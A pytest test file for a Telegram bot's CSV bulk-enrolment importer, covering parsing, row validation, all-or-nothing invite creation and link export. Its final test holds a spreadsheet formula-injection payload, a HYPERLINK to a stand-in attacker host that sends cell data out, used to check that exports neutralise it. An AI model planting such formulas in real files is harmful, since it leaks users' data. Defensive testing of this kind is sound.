"""Bulk enrolment from a CSV file: reading and checking every row, then one personal invite each, all or nothing."""

from __future__ import annotations

import csv
import io
import shutil
import sqlite3
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from bot.domain import enrolment as importer
from bot.domain.enrolment import Enrolee, FileProblem, language_of, read_enrolees, role_of
from bot.domain.programme import parse_programme
from bot.store import imports, people, programmes
from bot.store.db import Database, open_database
from tests.domain.test_programme import GOOD
from tests.test_cli import pitstop

SETS = {"set-a": "Set A", "set-b": "Set B"}
NOW = datetime(2027, 1, 10, 9, 0, tzinfo=UTC)


def read(text: str, encoding: str = "utf-8", default_language: str = "en") -> importer.Reading:
    return read_enrolees(text.encode(encoding), SETS, default_language)


def problems(text: str) -> list[tuple[int, str]]:
    return [(p.row, p.reason) for p in read(text).problems]


# --------------------------------------------------------------------------- reading and checking


def test_a_dutch_excel_file_with_semicolons_bom_and_dutch_words_is_read() -> None:
    text = (
        "Naam;Leergroep;Taal;Rol;E-mail;Telefoon\r\n"
        "Jan de Vries;set-a;Nederlands;deelnemer;Jan@Example.nl;0612345678\r\n"
        "  Ann   Smith ; Set B ;Engels;;;\r\n"
        ";;;;;\r\n"
        "Piet Bos;;NL;Begeleider;;\r\n"
        "Kees Groot;set-b;;;;\r\n"
    )
    reading = read(text, "utf-8-sig", default_language="nl")
    assert not reading.problems
    assert reading.delimiter == ";" and reading.with_bom
    assert reading.ignored_columns == ("Telefoon",)
    assert [(e.row, e.name, e.set_key, e.language, e.role, e.email) for e in reading.enrolees] == [
        (2, "Jan de Vries", "set-a", "nl", "participant", "Jan@Example.nl"),
        (3, "Ann Smith", "set-b", "en", "participant", ""),
        (5, "Piet Bos", "", "nl", "facilitator", ""),
        (6, "Kees Groot", "set-b", "nl", "participant", ""),  # the programme's language by default
    ]


def test_a_windows_1252_file_with_commas_is_read() -> None:
    reading = read("name,set,language\nJosé Müller,set-a,English\nZoë Ørsted,set-b,\n", "cp1252")
    assert [e.name for e in reading.enrolees] == ["José Müller", "Zoë Ørsted"]
    assert (
        reading.delimiter == "," and reading.with_bom
    )  # written back so that Excel shows the accents


def test_an_excel_sep_line_names_the_delimiter_and_is_not_the_header() -> None:
    reading = read("sep=;\nname;set\nAnn, the second;set-a\n")
    assert reading.enrolees[0].name == "Ann, the second" and reading.enrolees[0].row == 3


@pytest.mark.parametrize(
    ("written", "language"),
    [
        ("en", "en"),
        ("EN", "en"),
        ("English", "en"),
        ("engels", "en"),
        ("en-GB", "en"),
        ("nl", "nl"),
        ("Nederlands", "nl"),
        ("Dutch", "nl"),
        ("nl-BE", "nl"),
        ("NL.", "nl"),
        ("fr", None),
        ("Frans", None),
    ],
)
def test_languages_are_understood_as_people_write_them(written: str, language: str | None) -> None:
    assert language_of(written) == language


def test_roles_are_understood_in_english_and_dutch() -> None:
    assert [
        role_of(r) for r in ("participant", "Deelnemer", "facilitator", "BEGELEIDER", "boss")
    ] == [
        "participant",
        "participant",
        "facilitator",
        "facilitator",
        None,
    ]


def test_a_set_is_named_by_its_key_or_its_name_in_any_case() -> None:
    reading = read("name,set\nA,SET-A\nB,set b\n")
    assert [e.set_key for e in reading.enrolees] == ["set-a", "set-b"]


def test_every_bad_row_is_reported_at_once_with_its_spreadsheet_row_number() -> None:
    text = (
        "name,set,language,role,email\n"  # row 1
        "Good One,set-a,en,participant,\n"  # row 2
        "Bad Set,set-z,en,,\n"  # row 3
        "Bad Language,set-a,fr,,\n"  # row 4
        "Bad Role,set-a,en,boss,\n"  # row 5
        ",set-a,en,,\n"  # row 6
        "\n"  # row 7: empty, skipped but counted
        "No Set,,en,participant,\n"  # row 8
        f"{'x' * 101},set-a,,,\n"  # row 9
        "Good One,set-a,nl,,\n"  # row 10: same name and set as row 2
        "Too Many,set-a,en,,,surplus\n"  # row 11
        "Bad Mail,set-a,en,,not-an-address\n"  # row 12
        "Mail One,set-a,en,,a@example.org\n"  # row 13
        "Mail Two,set-b,en,,A@Example.org\n"  # row 14: same address as row 13
        '"Line\nBreak",set-a,,,\n'  # row 15: one row in a spreadsheet
        "Two Things,set-q,xx,,\n"  # row 16: both reported
    )
    found = problems(text)
    assert [row for row, _ in found] == [3, 4, 5, 6, 8, 9, 10, 11, 12, 14, 15, 16, 16]
    reasons = dict(found[:-1])
    assert "unknown learning set 'set-z' (known sets: set-a, set-b)" == reasons[3]
    assert "unknown language 'fr'" in reasons[4]
    assert "unknown role 'boss'" in reasons[5]
    assert "name is missing" in reasons[6]
    assert "participant needs a learning set" in reasons[8]
    assert "101 characters" in reasons[9]
    assert reasons[10] == "the same person as row 2 (same name and set)"
    assert "has 6 columns but the header has 5" in reasons[11]
    assert "not an e-mail address" in reasons[12]
    assert reasons[14] == "the same person as row 13 (same e-mail address)"
    assert reasons[15] == "the name cell holds a line break (an unclosed quote in the file?)"
    assert "set-q" in found[-2][1] and "xx" in found[-1][1]
    assert (
        str(read(text).problems[0])
        == "row 3: unknown learning set 'set-z' (known sets: set-a, set-b)"
    )


def test_trailing_empty_columns_and_blank_lines_are_no_problem() -> None:
    reading = read("name;set;;\nAnn;set-a;;\n\n;;;\nBob;set-b\n")
    assert not reading.problems and [e.row for e in reading.enrolees] == [2, 5]


def test_a_programme_without_sets_takes_participants_without_a_set() -> None:
    reading = read_enrolees(b"name,set\nAnn,\nBob,set-a\n", {}, "en")
    assert [(p.row, p.reason) for p in reading.problems] == [
        (3, "unknown learning set 'set-a' (known sets: none)")
    ]


@pytest.mark.parametrize(
    ("raw", "sentence"),
    [
        (b"", "is empty"),
        (b"\n ; ;\n", "is empty"),
        (b"PK\x03\x04\x14\x00\x06\x00", "spreadsheet workbook"),
        (b"\x00\x01\x02name", "binary"),
        (b"\x81\x8d\x8f", "cannot be read as text"),
        (b"voornaam,achternaam\nJan,Jansen\n", "needs a header row with a name column"),
        (b"name;set\n", "no rows of people"),
        (b"naam,name\nA,B\n", "two columns for name"),
        (b"name\n" + b"x" * (importer.MAX_BYTES), "at most 10 MB"),
    ],
)
def test_a_file_that_is_no_csv_of_people_is_refused_in_one_sentence(
    raw: bytes, sentence: str
) -> None:
    with pytest.raises(FileProblem, match=sentence):
        read_enrolees(raw, SETS, "en")


def test_a_person_is_recognised_by_email_else_by_set_and_name() -> None:
    with_mail = Enrolee(2, "Jan de Vries", "set-a", "nl", "participant", "Jan@Example.NL")
    without = Enrolee(3, "  JAN   de vries", "set-a", "nl", "participant")
    assert with_mail.import_ref("cpm") == "cpm:jan@example.nl"
    assert without.import_ref("cpm") == "cpm:set-a:jan de vries"


# --------------------------------------------------------------------------- invites in the database


async def _programme(db: Database) -> int:
    result = await programmes.save_programme(db, parse_programme(GOOD), GOOD, NOW)
    return result.programme_id


def _enrolees(count: int) -> list[Enrolee]:
    return [
        Enrolee(i + 2, f"Person {i}", "set-a" if i % 2 else "set-b", "en", "participant")
        for i in range(count)
    ]


async def test_invites_are_created_all_or_nothing(
    db: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    programme_id = await _programme(db)
    codes = iter([f"code-{i}" for i in range(149)] + ["code-0"] * 200)  # the 150th repeats a code
    monkeypatch.setattr(people, "new_code", lambda: next(codes))
    with pytest.raises(sqlite3.IntegrityError):
        await imports.invite_all(
            db, programme_id, "cpm-test", _enrolees(300), NOW + timedelta(days=60), NOW
        )
    assert await db.scalar("SELECT count(*) FROM invite") == 0


async def test_a_row_with_an_email_keeps_the_invite_imported_before_the_address_was_added(
    db: Database,
) -> None:
    programme_id = await _programme(db)
    expires = NOW + timedelta(days=60)
    first = await imports.invite_all(
        db,
        programme_id,
        "cpm-test",
        [Enrolee(2, "Jan de Vries", "set-a", "nl", "participant")],
        expires,
        NOW,
    )
    # Later the file has addresses, and a second Jan de Vries joined set-a: only one of them is the first.
    again = await imports.invite_all(
        db,
        programme_id,
        "cpm-test",
        [
            Enrolee(2, "Jan de Vries", "set-a", "nl", "participant", "jan@example.nl"),
            Enrolee(3, "Jan de Vries", "set-a", "en", "participant", "other.jan@example.nl"),
        ],
        expires,
        NOW,
    )
    assert [i.status for i in again] == [importer.ALREADY, importer.NEW]
    assert again[0].code == first[0].code and again[1].code != first[0].code
    assert await db.scalar("SELECT count(*) FROM invite") == 2


async def test_an_earlier_invite_that_differs_from_the_file_is_kept_and_said_so(
    db: Database,
) -> None:
    programme_id = await _programme(db)
    expires = NOW + timedelta(days=60)
    await imports.invite_all(
        db,
        programme_id,
        "cpm-test",
        [Enrolee(2, "Ann", "", "en", "facilitator", "a@b.nl")],
        expires,
        NOW,
    )
    again = await imports.invite_all(
        db,
        programme_id,
        "cpm-test",
        [Enrolee(2, "Ann", "set-a", "en", "participant", "a@b.nl")],
        expires,
        NOW,
    )
    assert again[0].status == importer.ALREADY and again[0].role == "facilitator"
    assert again[0].differences == ("set - (file: set-a)", "role facilitator (file: participant)")


# --------------------------------------------------------------------------- the command


@pytest.fixture(scope="module")
def loaded(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Gives a database with the test programme loaded once (each test works on a copy)."""
    folder = tmp_path_factory.mktemp("loaded")
    (folder / "p.toml").write_text(GOOD)
    result = pitstop(
        "programme", "load", str(folder / "p.toml"), env={"PITSTOP_DB": str(folder / "p.db")}
    )
    assert result.returncode == 0, result.stderr
    return folder / "p.db"


@pytest.fixture
def env(loaded: Path, tmp_path: Path) -> Iterator[dict[str, str]]:
    shutil.copy(loaded, tmp_path / "p.db")
    yield {"PITSTOP_DB": str(tmp_path / "p.db")}


def invites(env: dict[str, str]) -> list[sqlite3.Row]:
    conn = sqlite3.connect(env["PITSTOP_DB"])
    conn.row_factory = sqlite3.Row
    try:
        return conn.execute(
            "SELECT i.*, s.key AS set_key FROM invite i LEFT JOIN learning_set s ON s.id = i.learning_set_id ORDER BY i.id"
        ).fetchall()
    finally:
        conn.close()


def links(path: Path, delimiter: str = ";") -> list[dict[str, str]]:
    return list(
        csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=delimiter)
    )


GOOD_CSV = (
    "Naam;Groep;Taal;Rol;E-mail\n"
    "Jan de Vries;set-a;Nederlands;deelnemer;jan@example.nl\n"
    "Ann Smith;set-b;English;;\n"
    "Piet Bos;;;begeleider;piet@example.nl\n"
)


def test_a_good_file_creates_personal_invites_and_a_links_file(
    env: dict[str, str], tmp_path: Path
) -> None:
    source = tmp_path / "people.csv"
    source.write_text(GOOD_CSV, encoding="utf-8-sig")
    result = pitstop(
        "import",
        str(source),
        "--programme",
        "cpm-test",
        "--bot-username",
        "@pitstop_test_bot",
        "--expires",
        "2099-03-31",
        env=env,
    )
    assert result.returncode == 0, result.stderr
    out = tmp_path / "people-links.csv"
    assert f"3 new invites, 0 already invited; links written to {out}" in result.stdout
    stored = invites(env)
    assert [
        (i["name"], i["set_key"], i["language"], i["role"], i["max_uses"], i["import_ref"])
        for i in stored
    ] == [
        ("Jan de Vries", "set-a", "nl", "participant", 1, "cpm-test:jan@example.nl"),
        ("Ann Smith", "set-b", "en", "participant", 1, "cpm-test:set-b:ann smith"),
        ("Piet Bos", None, "en", "facilitator", 1, "cpm-test:piet@example.nl"),
    ]
    rows = links(out)
    assert list(rows[0]) == list(importer.OUTPUT_COLUMNS)
    assert rows[0]["link"] == f"https://t.me/pitstop_test_bot?start={stored[0]['code']}"
    assert [(r["name"], r["email"], r["expires"], r["status"]) for r in rows] == [
        ("Jan de Vries", "jan@example.nl", "2099-03-31", "new"),
        ("Ann Smith", "", "2099-03-31", "new"),
        ("Piet Bos", "piet@example.nl", "2099-03-31", "new"),
    ]
    assert (
        "import" in pitstop("audit", env=env).stdout
        and "rows=3 new=3" in pitstop("audit", env=env).stdout
    )


def test_without_a_bot_username_the_link_column_holds_the_start_command(
    env: dict[str, str], tmp_path: Path
) -> None:
    source = tmp_path / "people.csv"
    source.write_text("name,set\nAnn,set-a\n")
    result = pitstop(
        "import",
        str(source),
        "--programme",
        "cpm-test",
        "--out",
        str(tmp_path / "mail.csv"),
        env=env,
    )
    assert result.returncode == 0, result.stderr
    row = links(tmp_path / "mail.csv", ",")[0]
    assert row["link"] == f"/start {row['code']}"


def test_three_bad_rows_among_good_ones_import_nothing(env: dict[str, str], tmp_path: Path) -> None:
    source = tmp_path / "people.csv"
    source.write_text(
        GOOD_CSV + "Bad Set;set-z;;;\nBad Taal;set-a;Frans;;\nAnn Smith;set-b;;;\nKees;set-a;;;\n"
    )
    result = pitstop("import", str(source), "--programme", "cpm-test", env=env)
    assert result.returncode == 1
    assert "3 problems in 3 rows" in result.stdout
    assert "row 5: unknown learning set 'set-z'" in result.stdout
    assert "row 6: unknown language 'Frans'" in result.stdout
    assert "row 7: the same person as row 3" in result.stdout
    assert "Nothing was imported" in result.stdout
    assert invites(env) == [] and not (tmp_path / "people-links.csv").exists()


def test_importing_the_same_file_twice_creates_no_second_invites(
    env: dict[str, str], tmp_path: Path
) -> None:
    source = tmp_path / "people.csv"
    source.write_text(GOOD_CSV)
    first = pitstop("import", str(source), "--programme", "cpm-test", env=env)
    codes = [r["code"] for r in links(tmp_path / "people-links.csv")]
    second = pitstop("import", str(source), "--programme", "cpm-test", env=env)
    assert first.returncode == second.returncode == 0, second.stderr
    assert "0 new invites, 3 already invited" in second.stdout
    again = links(tmp_path / "people-links.csv")
    assert [r["code"] for r in again] == codes and {r["status"] for r in again} == {
        "already invited"
    }
    assert len(invites(env)) == 3


def test_a_thousand_rows_import_in_one_go_with_a_progress_bar(
    env: dict[str, str], tmp_path: Path
) -> None:
    source = tmp_path / "many.csv"
    source.write_text(
        "name,set,email\n"
        + "".join(f"Person {i},set-{'ab'[i % 2]},p{i}@example.org\n" for i in range(1000))
    )
    result = pitstop("import", str(source), "--programme", "cpm-test", env=env)
    assert result.returncode == 0, result.stderr
    assert len(invites(env)) == 1000 and len(links(tmp_path / "many-links.csv", ",")) == 1000
    # (text mode turns the bar's carriage returns into line ends)
    assert f"[{'#' * 30}] 1000/1000 invites" in result.stderr and "[###...." in result.stderr
    assert "\r" not in result.stdout and "1000 new invites" in result.stdout


@pytest.mark.parametrize(
    ("args", "sentence"),
    [
        (["missing.csv", "--programme", "cpm-test"], "does not exist"),
        (["people.csv", "--programme", "nope"], "There is no programme 'nope'"),
        (["people.csv", "--programme", "cpm-test", "--expires", "31-03-2099"], "is not a date"),
        (["people.csv", "--programme", "cpm-test", "--expires", "2001-01-01"], "lies in the past"),
        (
            ["people.csv", "--programme", "cpm-test", "--out", "people.csv"],
            "is the file being imported",
        ),
        (["workbook.csv", "--programme", "cpm-test"], "workbook.csv is a spreadsheet workbook"),
        (["headless.csv", "--programme", "cpm-test"], "needs a header row with a name column"),
    ],
)
def test_a_file_or_option_that_cannot_work_stops_with_one_sentence(
    args: list[str], sentence: str, env: dict[str, str], tmp_path: Path
) -> None:
    (tmp_path / "people.csv").write_text(GOOD_CSV)
    (tmp_path / "workbook.csv").write_bytes(b"PK\x03\x04rest of a zip")
    (tmp_path / "headless.csv").write_text("Jan de Vries;set-a\n")
    result = pitstop("import", *args, env=env, cwd=tmp_path)
    assert result.returncode == 2
    assert sentence in result.stderr and "Traceback" not in result.stderr
    assert invites(env) == []


async def test_an_imported_invite_enrols_with_the_name_and_language_from_the_file(
    env: dict[str, str], tmp_path: Path
) -> None:
    source = tmp_path / "people.csv"
    source.write_text(GOOD_CSV)
    assert pitstop("import", str(source), "--programme", "cpm-test", env=env).returncode == 0
    jan = links(tmp_path / "people-links.csv")[0]
    db = await open_database(env["PITSTOP_DB"])
    try:
        outcome, person, invite = await people.redeem_invite(
            db,
            jan["code"],
            4242,
            4242,
            "Telegram Name",
            "en",
            "Europe/Amsterdam",
            datetime.now(UTC),
        )
        assert outcome is people.Redeemed.JOINED and person is not None and invite is not None
        assert (person.name, person.language) == ("Jan de Vries", "nl")
        membership = await people.participation(db, person.id)
        stored_set = await programmes.get_set(db, invite.programme_id, "set-a")
        assert (
            membership is not None
            and stored_set is not None
            and membership.learning_set_id == stored_set.id
        )
        again, _, _ = await people.redeem_invite(
            db, jan["code"], 5151, 5151, "Someone Else", "en", "Europe/Amsterdam", datetime.now(UTC)
        )
        assert again is people.Redeemed.USED_UP  # a personal link works once
    finally:
        await db.close()


def test_an_unclosed_quote_is_reported_without_quoting_the_rest_of_the_file() -> None:
    found = problems('name,set\nAnn,"set-a\n' + "".join(f"P{i},set-b\n" for i in range(50)))
    assert len(found) == 2 and found[0] == (
        2,
        "the set cell holds a line break (an unclosed quote in the file?)",
    )
    assert len(found[1][1]) < 120 and "…" in found[1][1]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_name_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text(start: str) -> None:
    evil = start + 'HYPERLINK("http://evil.example/?x="&F2,"Klik hier")'
    enrolee = Enrolee(row=2, name=evil, email="+31@example.nl", set_key="set-a", language="nl", role="participant")
    invited = imports.Invited(enrolee, "CODE123", NOW, "new", set_key="=set", language="nl", role="participant", name=evil)
    text = importer.links_csv([invited], "pitstop_bot", lambda moment: moment.date().isoformat(), ";")
    row = next(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert row["name"] == "'" + evil
    assert row["email"] == "'+31@example.nl" and row["set"] == "'=set"
    assert row["code"] == "CODE123" and row["link"] == "https://t.me/pitstop_bot?start=CODE123"
